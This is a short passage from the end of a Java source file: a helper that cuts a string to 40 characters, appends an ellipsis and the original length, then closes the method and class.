        return plain.length() > 40 ? plain.substring(0, 40) + "…(" + s.length() + ")" : plain;
    }
}
